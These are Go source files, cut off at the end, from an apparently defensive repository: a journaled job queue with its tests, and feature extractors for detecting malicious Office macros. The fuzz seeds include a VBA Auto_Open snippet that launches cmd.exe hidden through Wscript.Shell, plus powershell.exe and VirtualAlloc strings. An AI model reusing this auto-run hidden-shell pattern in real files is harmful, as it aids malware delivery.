		name:       dj.Name,
		meta:       dj.Meta,
		data:       dj.Data,
		trace:      dj.Trace,
		enqueuedNS: dj.EnqueuedAt.UnixNano(),
		seg:        q.segs[len(q.segs)-1],
	}
	j.seg.live++
	q.jobs[id] = j
	heap.Push(&q.ready, j)
	q.notifyLocked()
	return nil
}

// Status reports where a job currently is in its lifecycle.
func (q *Queue) Status(id uint64) Status {
	q.mu.Lock()
	defer q.mu.Unlock()
	q.sweepLocked(q.opt.now())
	if j, ok := q.jobs[id]; ok {
		if j.inflight {
			return StatusInFlight
		}
		return StatusPending
	}
	if _, ok := q.dead[id]; ok {
		return StatusDead
	}
	return StatusUnknown
}

// DeadLetters lists the currently held dead-lettered jobs, oldest first.
func (q *Queue) DeadLetters() []DeadJob {
	q.mu.Lock()
	defer q.mu.Unlock()
	out := make([]DeadJob, 0, len(q.dead))
	for _, dj := range q.dead {
		out = append(out, *dj)
	}
	sort.Slice(out, func(i, k int) bool { return out[i].ID < out[k].ID })
	return out
}

// Stats snapshots the queue.
func (q *Queue) Stats() Stats {
	q.mu.Lock()
	defer q.mu.Unlock()
	now := q.opt.now()
	q.sweepLocked(now)
	st := Stats{
		Dead:           len(q.dead),
		Enqueued:       q.counter.enqueued,
		Acked:          q.counter.acked,
		Redelivered:    q.counter.redelivered,
		DeadLettered:   q.counter.deadLettered,
		CorruptRecords: q.counter.corrupt,
		Segments:       len(q.segs),
	}
	var oldest int64
	for _, j := range q.jobs {
		if j.inflight {
			st.InFlight++
			continue
		}
		st.Depth++
		if oldest == 0 || j.enqueuedNS < oldest {
			oldest = j.enqueuedNS
		}
	}
	if oldest != 0 {
		st.OldestAge = now.Sub(time.Unix(0, oldest))
	}
	return st
}

// sweepLocked returns expired in-flight jobs to the ready set (or the
// dead-letter state once their delivery budget is spent).
func (q *Queue) sweepLocked(now time.Time) {
	for _, j := range q.jobs {
		if !j.inflight || now.Before(j.deadline) {
			continue
		}
		if j.attempts >= q.opt.MaxAttempts {
			// Journal append failures here would strand the job in flight;
			// the next sweep retries the dead-letter.
			_ = q.deadLetterLocked(j, "visibility timeout with no attempts left", now)
			continue
		}
		j.inflight = false
		j.deadline = time.Time{}
		j.notBefore = now // expired lease redelivers immediately
		heap.Push(&q.ready, j)
		q.notifyLocked()
	}
}

// popReadyLocked removes and returns the first visible ready job, skipping
// (and keeping) jobs still in backoff.
func (q *Queue) popReadyLocked(now time.Time) *job {
	for q.ready.Len() > 0 {
		j := q.ready.peek()
		if j.notBefore.After(now) {
			return nil // heap order: nothing earlier is ready either
		}
		heap.Pop(&q.ready)
		if j.inflight || q.jobs[j.id] != j {
			continue // stale heap entry (job resolved while queued here)
		}
		return j
	}
	return nil
}

// nextWakeLocked computes how long Receive may sleep before some state
// transition (backoff maturity, visibility expiry) needs service.
// 0 means "no timed wake needed, wait for a notify".
func (q *Queue) nextWakeLocked(now time.Time) time.Duration {
	var next time.Time
	if q.ready.Len() > 0 {
		next = q.ready.peek().notBefore
	}
	for _, j := range q.jobs {
		if j.inflight && (next.IsZero() || j.deadline.Before(next)) {
			next = j.deadline
		}
	}
	if next.IsZero() {
		return 0
	}
	d := next.Sub(now)
	if d < time.Millisecond {
		d = time.Millisecond
	}
	return d
}

// removeLocked deletes a resolved job and credits its segment.
func (q *Queue) removeLocked(j *job) {
	delete(q.jobs, j.id)
	if j.seg != nil {
		j.seg.live--
	}
}

// notifyLocked wakes every blocked Receive.
func (q *Queue) notifyLocked() {
	close(q.wake)
	q.wake = make(chan struct{})
}

// jobHeap orders pending jobs by (notBefore, id): ready jobs FIFO by
// enqueue order, backed-off jobs by their retry time.
type jobHeap []*job

func (h jobHeap) Len() int { return len(h) }
func (h jobHeap) Less(i, k int) bool {
	if !h[i].notBefore.Equal(h[k].notBefore) {
		return h[i].notBefore.Before(h[k].notBefore)
	}
	return h[i].id < h[k].id
}
func (h jobHeap) Swap(i, k int) { h[i], h[k] = h[k], h[i] }
func (h *jobHeap) Push(x any)   { *h = append(*h, x.(*job)) }
func (h jobHeap) peek() *job    { return h[0] }
func (h *jobHeap) Pop() any {
	old := *h
	n := len(old)
	j := old[n-1]
	old[n-1] = nil
	*h = old[:n-1]
	return j
}
