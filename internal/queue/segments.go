// Segment lifecycle for the queue journal: append with rotation, replay
// with torn-tail truncation, and compaction of fully-resolved segments.
package queue

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"time"
)

// segName formats the file name of segment index i.
func segName(i int) string { return fmt.Sprintf("wal-%08d.seg", i) }

// openActive opens (creating if needed) the append handle for the last
// segment. replay must have run first so q.segs reflects the directory.
func (q *Queue) openActive() error {
	if len(q.segs) == 0 {
		q.segs = append(q.segs, &segment{path: filepath.Join(q.dir, segName(1)), index: 1})
	}
	seg := q.segs[len(q.segs)-1]
	f, err := os.OpenFile(seg.path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return fmt.Errorf("queue: open segment: %w", err)
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return fmt.Errorf("queue: stat segment: %w", err)
	}
	q.active = f
	q.wsize = st.Size()
	return q.syncDir()
}

// syncDir fsyncs the journal directory so segment creations and removals
// are themselves durable. Best-effort on filesystems that refuse directory
// fsync.
func (q *Queue) syncDir() error {
	d, err := os.Open(q.dir)
	if err != nil {
		return nil
	}
	_ = d.Sync()
	return d.Close()
}

// appendLocked frames and appends one record to the active segment,
// rotating first when the segment is over its size budget. sync forces an
// fsync before returning — the durability point for accepted work.
func (q *Queue) appendLocked(kind byte, payload []byte, sync bool) error {
	if q.wsize >= q.opt.SegmentBytes {
		if err := q.rotateLocked(); err != nil {
			return err
		}
	}
	buf := appendRecord(make([]byte, 0, recHeaderLen+len(payload)+4), kind, payload)
	n, err := q.active.Write(buf)
	q.wsize += int64(n)
	if err != nil {
		return fmt.Errorf("queue: append: %w", err)
	}
	if sync {
		if err := q.active.Sync(); err != nil {
			return fmt.Errorf("queue: fsync: %w", err)
		}
	}
	return nil
}

// rotateLocked seals the active segment and starts the next one.
func (q *Queue) rotateLocked() error {
	if err := q.active.Sync(); err != nil {
		return fmt.Errorf("queue: fsync before rotate: %w", err)
	}
	if err := q.active.Close(); err != nil {
		return fmt.Errorf("queue: close segment: %w", err)
	}
	next := q.segs[len(q.segs)-1].index + 1
	seg := &segment{path: filepath.Join(q.dir, segName(next)), index: next}
	f, err := os.OpenFile(seg.path, os.O_CREATE|os.O_WRONLY|os.O_APPEND|os.O_EXCL, 0o644)
	if err != nil {
		return fmt.Errorf("queue: create segment: %w", err)
	}
	q.segs = append(q.segs, seg)
	q.active = f
	q.wsize = 0
	return q.syncDir()
}

// compactLocked removes leading segments whose enqueued jobs have all been
// resolved. Only a prefix is ever removed: ack/dead records always land in
// the same or a later segment than the enqueue they resolve, so deleting a
// fully-resolved prefix can never orphan a resolution that a later replay
// still needs. Dead-lettered jobs keep their enqueue segment live (their
// payload must survive restarts until an operator redrives or the queue
// is truncated by hand).
func (q *Queue) compactLocked() {
	for len(q.segs) > 1 && q.segs[0].live == 0 {
		if err := os.Remove(q.segs[0].path); err != nil && !errors.Is(err, os.ErrNotExist) {
			return // try again on the next ack
		}
		q.segs = q.segs[1:]
	}
	_ = q.syncDir()
}

// replay rebuilds the in-memory state from every segment on disk, oldest
// first. Enqueues add jobs, acks resolve them, dead records move them to
// the dead-letter set; whatever remains un-resolved is redelivered — the
// at-least-once crash-recovery guarantee. A torn tail on the final segment
// is truncated; corruption inside an interior segment skips the remainder
// of that segment and is counted, not fatal.
func (q *Queue) replay() error {
	entries, err := os.ReadDir(q.dir)
	if err != nil {
		return fmt.Errorf("queue: %w", err)
	}
	for _, e := range entries {
		var idx int
		if n, _ := fmt.Sscanf(e.Name(), "wal-%08d.seg", &idx); n == 1 {
			q.segs = append(q.segs, &segment{path: filepath.Join(q.dir, e.Name()), index: idx})
		}
	}
	sort.Slice(q.segs, func(i, k int) bool { return q.segs[i].index < q.segs[k].index })

	for si, seg := range q.segs {
		last := si == len(q.segs)-1
		if err := q.replaySegment(seg, last); err != nil {
			return err
		}
	}
	return nil
}

// replaySegment replays one segment file.
func (q *Queue) replaySegment(seg *segment, last bool) error {
	f, err := os.Open(seg.path)
	if err != nil {
		return fmt.Errorf("queue: replay %s: %w", seg.path, err)
	}
	defer f.Close()
	r := bufio.NewReader(f)
	var good int64
	for {
		rec, err := decodeRecord(r)
		if err == io.EOF {
			break
		}
		if err != nil {
			if last {
				// Torn tail from a crash mid-append: cut the segment back to
				// the last whole record so new appends follow valid framing.
				if terr := os.Truncate(seg.path, good); terr != nil {
					return fmt.Errorf("queue: truncate torn tail of %s: %w", seg.path, terr)
				}
			} else {
				q.counter.corrupt++
			}
			break
		}
		good += int64(recHeaderLen + len(rec.payload) + 4)
		q.applyRecord(seg, rec)
	}
	return nil
}

// applyRecord folds one replayed record into the queue state.
func (q *Queue) applyRecord(seg *segment, rec record) {
	switch rec.kind {
	case recEnqueue:
		id, ns, name, meta, data, trace, err := decodeEnqueue(rec.payload)
		if err != nil {
			q.counter.corrupt++
			return
		}
		// Re-enqueue of a dead-lettered job (redrive) resurrects it,
		// releasing the pin on its original enqueue segment.
		if dj, ok := q.dead[id]; ok {
			if dj.seg != nil {
				dj.seg.live--
			}
			delete(q.dead, id)
		}
		q.jobs[id] = &job{
			id: id, name: name, meta: meta, data: data, trace: trace,
			enqueuedNS: ns, seg: seg,
		}
		seg.live++
		q.ready = append(q.ready, q.jobs[id])
		q.counter.enqueued++
		if id > q.nextID {
			q.nextID = id
		}
	case recAck:
		id, err := decodeAck(rec.payload)
		if err != nil {
			q.counter.corrupt++
			return
		}
		if j, ok := q.jobs[id]; ok {
			q.removeReplayedLocked(j)
			q.counter.acked++
		}
	case recDead:
		id, reason, err := decodeDead(rec.payload)
		if err != nil {
			q.counter.corrupt++
			return
		}
		j, ok := q.jobs[id]
		if !ok {
			return
		}
		q.removeReplayedLocked(j)
		// The enqueue segment must outlive the dead-letter so the payload
		// survives restarts: keep it counted as live.
		j.seg.live++
		// Attempts are not journaled; a replayed dead letter reports 0.
		q.dead[id] = &DeadJob{
			Job: Job{ID: id, Name: j.name, Meta: j.meta, Data: j.data,
				Trace: j.trace, EnqueuedAt: time.Unix(0, j.enqueuedNS)},
			Reason: reason,
			seg:    j.seg,
		}
		q.counter.deadLettered++
	default:
		q.counter.corrupt++
	}
}

// removeReplayedLocked is removeLocked against the replay-time ready slice
// (the heap is initialized after replay, so filter the slice directly).
func (q *Queue) removeReplayedLocked(j *job) {
	delete(q.jobs, j.id)
	j.seg.live--
	for i, r := range q.ready {
		if r == j {
			q.ready = append(q.ready[:i], q.ready[i+1:]...)
			break
		}
	}
}
