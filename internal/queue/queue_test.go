package queue

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"
)

func openTest(t *testing.T, dir string, opt Options) *Queue {
	t.Helper()
	opt.NoSync = true // tests run on tmpfs-ish CI disks; fsync is covered by the crash test
	q, err := Open(dir, opt)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	t.Cleanup(func() { q.Close() })
	return q
}

func mustEnqueue(t *testing.T, q *Queue, name string, data []byte) uint64 {
	t.Helper()
	id, err := q.Enqueue(name, nil, data)
	if err != nil {
		t.Fatalf("Enqueue(%s): %v", name, err)
	}
	return id
}

func mustReceive(t *testing.T, q *Queue) *Delivery {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	d, err := q.Receive(ctx)
	if err != nil {
		t.Fatalf("Receive: %v", err)
	}
	return d
}

func TestFIFOAndAck(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{})
	var ids []uint64
	for i := 0; i < 5; i++ {
		ids = append(ids, mustEnqueue(t, q, fmt.Sprintf("doc-%d", i), []byte{byte(i)}))
	}
	for i := 0; i < 5; i++ {
		d := mustReceive(t, q)
		if d.ID != ids[i] {
			t.Fatalf("delivery %d: got id %d, want %d (FIFO)", i, d.ID, ids[i])
		}
		if d.Attempt != 1 {
			t.Fatalf("fresh delivery reports attempt %d", d.Attempt)
		}
		if !bytes.Equal(d.Data, []byte{byte(i)}) {
			t.Fatalf("delivery %d: payload %v", i, d.Data)
		}
		if err := d.Ack(); err != nil {
			t.Fatalf("Ack: %v", err)
		}
	}
	st := q.Stats()
	if st.Depth != 0 || st.InFlight != 0 || st.Acked != 5 || st.Enqueued != 5 {
		t.Fatalf("final stats: %+v", st)
	}
}

func TestReceiveBlocksUntilEnqueue(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{})
	got := make(chan *Delivery, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		d, err := q.Receive(ctx)
		if err == nil {
			got <- d
		}
	}()
	time.Sleep(50 * time.Millisecond)
	id := mustEnqueue(t, q, "late", []byte("x"))
	select {
	case d := <-got:
		if d.ID != id {
			t.Fatalf("got id %d, want %d", d.ID, id)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("blocked Receive never woke on enqueue")
	}
}

func TestVisibilityTimeoutRedelivers(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{VisibilityTimeout: 80 * time.Millisecond})
	id := mustEnqueue(t, q, "doc", []byte("payload"))
	d1 := mustReceive(t, q)
	if d1.ID != id {
		t.Fatalf("got %d want %d", d1.ID, id)
	}
	// Abandon d1: no ack. The lease expires and the job comes back.
	d2 := mustReceive(t, q)
	if d2.ID != id || d2.Attempt != 2 {
		t.Fatalf("redelivery: id=%d attempt=%d", d2.ID, d2.Attempt)
	}
	if err := d2.Ack(); err != nil {
		t.Fatalf("Ack: %v", err)
	}
	// The abandoned twin's late ack must be a harmless no-op.
	if err := d1.Ack(); err != nil {
		t.Fatalf("late twin Ack: %v", err)
	}
	if st := q.Stats(); st.Redelivered != 1 || st.Depth != 0 || st.InFlight != 0 {
		t.Fatalf("stats after redelivery: %+v", st)
	}
}

func TestFailBacksOffThenRedelivers(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{RetryBackoff: 60 * time.Millisecond, MaxAttempts: 3})
	mustEnqueue(t, q, "doc", []byte("x"))
	d := mustReceive(t, q)
	failedAt := time.Now()
	if err := d.Fail("transient"); err != nil {
		t.Fatalf("Fail: %v", err)
	}
	d2 := mustReceive(t, q)
	if wait := time.Since(failedAt); wait < 50*time.Millisecond {
		t.Fatalf("redelivered after %v, before the 60ms backoff", wait)
	}
	if d2.Attempt != 2 {
		t.Fatalf("attempt = %d, want 2", d2.Attempt)
	}
	d2.Ack()
}

func TestDeadLetterAfterMaxAttempts(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{MaxAttempts: 2, RetryBackoff: time.Millisecond})
	id := mustEnqueue(t, q, "poison", []byte("boom"))
	for i := 0; i < 2; i++ {
		d := mustReceive(t, q)
		if err := d.Fail("still broken"); err != nil {
			t.Fatalf("Fail %d: %v", i, err)
		}
	}
	if s := q.Status(id); s != StatusDead {
		t.Fatalf("status = %v, want dead", s)
	}
	dead := q.DeadLetters()
	if len(dead) != 1 || dead[0].ID != id || dead[0].Reason != "still broken" {
		t.Fatalf("dead letters: %+v", dead)
	}
	if dead[0].Attempts != 2 {
		t.Fatalf("dead attempts = %d, want 2", dead[0].Attempts)
	}

	// Redrive restores a full delivery budget.
	if err := q.Redrive(id); err != nil {
		t.Fatalf("Redrive: %v", err)
	}
	if s := q.Status(id); s != StatusPending {
		t.Fatalf("status after redrive = %v", s)
	}
	d := mustReceive(t, q)
	if d.ID != id || !bytes.Equal(d.Data, []byte("boom")) {
		t.Fatalf("redriven delivery: id=%d data=%q", d.ID, d.Data)
	}
	d.Ack()
}

func TestKillDeadLettersImmediately(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{MaxAttempts: 5})
	id := mustEnqueue(t, q, "poison", []byte("x"))
	d := mustReceive(t, q)
	if err := d.Kill("permanent failure"); err != nil {
		t.Fatalf("Kill: %v", err)
	}
	if s := q.Status(id); s != StatusDead {
		t.Fatalf("status = %v, want dead", s)
	}
}

func TestPersistenceAcrossReopen(t *testing.T) {
	dir := t.TempDir()
	q := openTest(t, dir, Options{})
	id1 := mustEnqueue(t, q, "keep-1", []byte("alpha"))
	id2 := mustEnqueue(t, q, "ack-me", []byte("beta"))
	id3 := mustEnqueue(t, q, "keep-2", []byte("gamma"))
	d := mustReceive(t, q) // id1, abandoned in flight (simulated crash)
	_ = d
	d2 := mustReceive(t, q)
	if d2.ID != id2 {
		t.Fatalf("expected id2 next, got %d", d2.ID)
	}
	d2.Ack()
	q.Close()

	q2 := openTest(t, dir, Options{})
	st := q2.Stats()
	if st.Depth != 2 {
		t.Fatalf("reopened depth = %d, want 2 (unacked survive, acked gone): %+v", st.Depth, st)
	}
	got := map[uint64]string{}
	for i := 0; i < 2; i++ {
		d := mustReceive(t, q2)
		got[d.ID] = string(d.Data)
		d.Ack()
	}
	if got[id1] != "alpha" || got[id3] != "gamma" {
		t.Fatalf("recovered payloads: %v", got)
	}
	// IDs keep advancing past everything replayed.
	id4 := mustEnqueue(t, q2, "next", nil)
	if id4 <= id3 {
		t.Fatalf("post-recovery id %d not past %d", id4, id3)
	}
}

func TestDeadLettersSurviveReopen(t *testing.T) {
	dir := t.TempDir()
	q := openTest(t, dir, Options{MaxAttempts: 1})
	id := mustEnqueue(t, q, "poison", []byte("payload"))
	d := mustReceive(t, q)
	d.Fail("broken")
	q.Close()

	q2 := openTest(t, dir, Options{})
	if s := q2.Status(id); s != StatusDead {
		t.Fatalf("status after reopen = %v, want dead", s)
	}
	dead := q2.DeadLetters()
	if len(dead) != 1 || !bytes.Equal(dead[0].Data, []byte("payload")) {
		t.Fatalf("dead letters after reopen: %+v", dead)
	}
	// And redrive still works from replayed state.
	if err := q2.Redrive(id); err != nil {
		t.Fatalf("Redrive after reopen: %v", err)
	}
	d2 := mustReceive(t, q2)
	if d2.ID != id {
		t.Fatalf("redriven id = %d", d2.ID)
	}
	d2.Ack()
}

func TestTornTailTruncatedOnReplay(t *testing.T) {
	dir := t.TempDir()
	q := openTest(t, dir, Options{})
	mustEnqueue(t, q, "whole", []byte("survives"))
	q.Close()

	// Simulate a crash mid-append: garbage and half a record at the tail.
	segs, _ := filepath.Glob(filepath.Join(dir, "wal-*.seg"))
	if len(segs) != 1 {
		t.Fatalf("segments: %v", segs)
	}
	f, err := os.OpenFile(segs[0], os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	torn := appendRecord(nil, recEnqueue, encodeEnqueue(99, 0, "torn", nil, []byte("lost"), ""))
	if _, err := f.Write(torn[:len(torn)-7]); err != nil {
		t.Fatal(err)
	}
	f.Close()

	q2 := openTest(t, dir, Options{})
	st := q2.Stats()
	if st.Depth != 1 {
		t.Fatalf("depth after torn-tail recovery = %d, want 1", st.Depth)
	}
	d := mustReceive(t, q2)
	if string(d.Data) != "survives" {
		t.Fatalf("recovered %q", d.Data)
	}
	d.Ack()
	// Appends after truncation must produce a cleanly replayable journal.
	mustEnqueue(t, q2, "after", []byte("clean"))
	q2.Close()
	q3 := openTest(t, dir, Options{})
	if st := q3.Stats(); st.Depth != 1 {
		t.Fatalf("depth after post-truncation append = %d, want 1", st.Depth)
	}
}

func TestCorruptInteriorRecordSkipped(t *testing.T) {
	dir := t.TempDir()
	q := openTest(t, dir, Options{SegmentBytes: 1}) // every record rotates
	mustEnqueue(t, q, "a", []byte("one"))
	mustEnqueue(t, q, "b", []byte("two"))
	mustEnqueue(t, q, "c", []byte("three"))
	q.Close()

	// Flip a payload byte in the middle segment: its CRC fails and the
	// segment's remainder is skipped, but other segments still replay.
	segs, _ := filepath.Glob(filepath.Join(dir, "wal-*.seg"))
	if len(segs) < 3 {
		t.Fatalf("segments: %v", segs)
	}
	data, err := os.ReadFile(segs[1])
	if err != nil {
		t.Fatal(err)
	}
	data[recHeaderLen+10] ^= 0xFF
	if err := os.WriteFile(segs[1], data, 0o644); err != nil {
		t.Fatal(err)
	}

	q2 := openTest(t, dir, Options{})
	st := q2.Stats()
	if st.Depth != 2 {
		t.Fatalf("depth = %d, want 2 (corrupt record dropped)", st.Depth)
	}
	if st.CorruptRecords == 0 {
		t.Fatal("corruption not counted")
	}
}

func TestSegmentRotationAndCompaction(t *testing.T) {
	dir := t.TempDir()
	q := openTest(t, dir, Options{SegmentBytes: 256})
	payload := bytes.Repeat([]byte("x"), 200) // one job per segment
	var ids []uint64
	for i := 0; i < 6; i++ {
		ids = append(ids, mustEnqueue(t, q, fmt.Sprintf("doc-%d", i), payload))
	}
	if st := q.Stats(); st.Segments < 3 {
		t.Fatalf("expected rotation, got %d segments", st.Segments)
	}
	for range ids {
		d := mustReceive(t, q)
		d.Ack()
	}
	st := q.Stats()
	if st.Segments > 2 {
		t.Fatalf("compaction left %d segments", st.Segments)
	}
	segs, _ := filepath.Glob(filepath.Join(dir, "wal-*.seg"))
	if len(segs) != st.Segments {
		t.Fatalf("disk has %d segments, stats say %d", len(segs), st.Segments)
	}
	// Compacted journal still replays to an empty queue.
	q.Close()
	q2 := openTest(t, dir, Options{})
	if st := q2.Stats(); st.Depth != 0 || st.InFlight != 0 {
		t.Fatalf("compacted journal replayed non-empty: %+v", st)
	}
}

func TestConcurrentProducersConsumers(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{})
	const producers, perProducer, consumers = 4, 25, 4
	total := producers * perProducer

	var wg sync.WaitGroup
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; i < perProducer; i++ {
				if _, err := q.Enqueue(fmt.Sprintf("p%d-%d", p, i), nil, []byte{byte(p), byte(i)}); err != nil {
					t.Errorf("enqueue: %v", err)
					return
				}
			}
		}(p)
	}

	var mu sync.Mutex
	seen := make(map[uint64]int)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	var cg sync.WaitGroup
	for c := 0; c < consumers; c++ {
		cg.Add(1)
		go func() {
			defer cg.Done()
			for {
				d, err := q.Receive(ctx)
				if err != nil {
					return
				}
				mu.Lock()
				seen[d.ID]++
				n := len(seen)
				mu.Unlock()
				if err := d.Ack(); err != nil {
					t.Errorf("ack: %v", err)
				}
				if n >= total {
					cancel()
					return
				}
			}
		}()
	}
	wg.Wait()
	cg.Wait()
	mu.Lock()
	defer mu.Unlock()
	if len(seen) != total {
		t.Fatalf("consumed %d distinct jobs, want %d", len(seen), total)
	}
	for id, n := range seen {
		if n != 1 {
			t.Fatalf("job %d delivered %d times with no lease expiry", id, n)
		}
	}
}

func TestHealthy(t *testing.T) {
	dir := t.TempDir()
	q := openTest(t, dir, Options{})
	if err := q.Healthy(); err != nil {
		t.Fatalf("Healthy on writable dir: %v", err)
	}
	if os.Getuid() == 0 {
		t.Skip("running as root: chmod 0500 does not block writes")
	}
	if err := os.Chmod(dir, 0o500); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(dir, 0o755)
	if err := q.Healthy(); err == nil {
		t.Fatal("Healthy passed on read-only dir")
	}
}

func TestClosedQueue(t *testing.T) {
	q := openTest(t, t.TempDir(), Options{})
	q.Close()
	if _, err := q.Enqueue("x", nil, nil); err != ErrClosed {
		t.Fatalf("Enqueue after close: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	if _, err := q.Receive(ctx); err != ErrClosed {
		t.Fatalf("Receive after close: %v", err)
	}
}
