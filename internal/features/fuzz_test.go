package features

import (
	"math"
	"strings"
	"testing"
)

// FuzzEntropySeries hammers the sliding-histogram entropy series with
// arbitrary bytes and window/stride geometry. Invariants: never panic,
// every value finite and within [0, 8] bits/byte, length bounded by the
// window cap, and the incremental histogram agrees with a from-scratch
// recount on the final window.
func FuzzEntropySeries(f *testing.F) {
	f.Add([]byte("Sub A()\nMsgBox Chr(65)\nEnd Sub\n"), 256, 128, 64)
	f.Add([]byte(""), 1, 1, 0)
	f.Add([]byte(strings.Repeat("A", 1000)), 16, 64, 10)
	f.Add([]byte{0, 255, 0, 255, 0, 255}, 2, 1, 0)
	f.Add([]byte("\xff\xfe\x00\x01base64=="), 0, -3, 5)
	f.Fuzz(func(t *testing.T, data []byte, window, stride, maxWindows int) {
		// Keep geometry in a range where the naive bound below is sane;
		// negatives and zero exercise the clamping.
		if window > 1<<16 {
			window = 1 << 16
		}
		if stride > 1<<16 {
			stride = 1 << 16
		}
		series := EntropySeries(data, window, stride, maxWindows)
		if maxWindows > 0 && len(series) > maxWindows {
			t.Fatalf("series length %d exceeds cap %d", len(series), maxWindows)
		}
		for i, h := range series {
			if math.IsNaN(h) || h < 0 || h > 8 {
				t.Fatalf("window %d entropy %v out of [0,8]", i, h)
			}
		}
		if len(data) > 0 && maxWindows != 0 && len(series) == 0 {
			t.Fatal("non-empty input produced empty series")
		}
		// Summary must also hold up under the same input.
		for i, v := range entropySummary(string(data), window, stride, maxWindows) {
			if math.IsNaN(v) || math.IsInf(v, 0) {
				t.Fatalf("summary[%d] = %v", i, v)
			}
		}
	})
}

// FuzzAPIChannel drives the suspicious-API extractor through the full
// single-parse analysis with arbitrary source. Invariants: never panic,
// fixed dimension, all values finite and non-negative, and deterministic
// across repeated extraction from the same analysis (pooled scratch
// buffers must not leak state between runs).
func FuzzAPIChannel(f *testing.F) {
	f.Add("Sub Auto_Open()\nSet o = CreateObject(\"Wscript.Shell\")\no.Run \"cmd.exe\", vbhide\nEnd Sub\n")
	f.Add("x = Chr(65) & Chr(66) Xor 3")
	f.Add("")
	f.Add("' CreateObject inside a comment\nSub A()\nEnd Sub")
	f.Add("\x00\xff\xfeShell\x00VirtualAlloc")
	f.Add(strings.Repeat("powershell.exe ", 50))
	f.Fuzz(func(t *testing.T, src string) {
		a := Analyze(src)
		v := a.APIChannel()
		if len(v) != APIDim {
			t.Fatalf("dim %d, want %d", len(v), APIDim)
		}
		for i, x := range v {
			if math.IsNaN(x) || math.IsInf(x, 0) || x < 0 {
				t.Fatalf("feature %d = %v", i, x)
			}
		}
		again := a.APIChannel()
		for i := range v {
			if v[i] != again[i] {
				t.Fatalf("non-deterministic extraction at %d: %v vs %v", i, v[i], again[i])
			}
		}
	})
}
