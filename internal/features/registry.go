// Feature-channel registry: every feature family this package computes is
// a named, versioned channel declaring its dimension and extractor. A
// model snapshot records the channels (and versions) it was trained on,
// and the loader validates that record against this registry — so a model
// trained on one channel layout fails closed against a binary whose
// extractors have drifted, instead of silently scoring garbage.
//
// Channel versions must be bumped whenever an extractor's output changes
// for any input (new features, reordered features, changed semantics).
package features

import (
	"fmt"
	"sort"
)

// Channel is one named feature family: a versioned extractor producing a
// fixed-dimension slice of the feature vector from the shared single-parse
// Analysis.
type Channel struct {
	// Name is the registry key ("v", "j", "entropy", "api").
	Name string
	// Version is the extractor's output version; any change to the
	// produced vector (dimension, order, semantics) bumps it.
	Version int
	// FeatureNames labels each dimension, in output order.
	FeatureNames []string
	// Extract computes the channel's vector from a shared analysis. It
	// must be a pure function of the analysis (no mutation), so one
	// Analysis can serve concurrent extractions.
	Extract func(a *Analysis) []float64
}

// Dim is the channel's output dimension.
func (c Channel) Dim() int { return len(c.FeatureNames) }

// ID is the canonical name@version string recorded in model snapshots and
// cache identities.
func (c Channel) ID() string { return fmt.Sprintf("%s@%d", c.Name, c.Version) }

var (
	registry      = map[string]Channel{}
	registryOrder []string
)

// RegisterChannel adds a channel to the registry. It panics on a duplicate
// name, a zero dimension or a nil extractor — registration happens at init
// time and a malformed channel is a programming error.
func RegisterChannel(c Channel) {
	if c.Name == "" || c.Version <= 0 || len(c.FeatureNames) == 0 || c.Extract == nil {
		panic(fmt.Sprintf("features: malformed channel %q", c.Name))
	}
	if _, dup := registry[c.Name]; dup {
		panic(fmt.Sprintf("features: duplicate channel %q", c.Name))
	}
	registry[c.Name] = c
	registryOrder = append(registryOrder, c.Name)
}

// LookupChannel returns the registered channel with that name.
func LookupChannel(name string) (Channel, bool) {
	c, ok := registry[name]
	return c, ok
}

// MustChannel is LookupChannel for names the caller knows are registered;
// it panics on a miss.
func MustChannel(name string) Channel {
	c, ok := registry[name]
	if !ok {
		panic(fmt.Sprintf("features: unknown channel %q", name))
	}
	return c
}

// ChannelNames lists every registered channel in registration order.
func ChannelNames() []string {
	return append([]string(nil), registryOrder...)
}

// ChannelIDs lists the name@version IDs of every registered channel,
// sorted by name — the binary's feature fingerprint.
func ChannelIDs() []string {
	ids := make([]string, 0, len(registry))
	for _, c := range registry {
		ids = append(ids, c.ID())
	}
	sort.Strings(ids)
	return ids
}

func init() {
	RegisterChannel(Channel{
		Name:         "v",
		Version:      1,
		FeatureNames: VNames,
		Extract:      (*Analysis).V,
	})
	RegisterChannel(Channel{
		Name:         "j",
		Version:      1,
		FeatureNames: JNames,
		Extract:      (*Analysis).J,
	})
	RegisterChannel(Channel{
		Name:         "entropy",
		Version:      1,
		FeatureNames: EntropyNames,
		Extract:      (*Analysis).EntropyChannel,
	})
	RegisterChannel(Channel{
		Name:         "api",
		Version:      1,
		FeatureNames: apiFeatureNames(),
		Extract:      (*Analysis).APIChannel,
	})
}
