package features

import (
	"math"
	"math/rand"
	"reflect"
	"strings"
	"sync"
	"testing"

	"repro/internal/hostile"
)

func TestRegistryChannels(t *testing.T) {
	want := []string{"v", "j", "entropy", "api"}
	if got := ChannelNames(); !reflect.DeepEqual(got, want) {
		t.Fatalf("ChannelNames = %v, want %v", got, want)
	}
	for _, name := range want {
		c, ok := LookupChannel(name)
		if !ok {
			t.Fatalf("channel %q not registered", name)
		}
		if c.Dim() != len(c.FeatureNames) {
			t.Errorf("channel %q: Dim %d != len(FeatureNames) %d", name, c.Dim(), len(c.FeatureNames))
		}
		if c.Version != 1 {
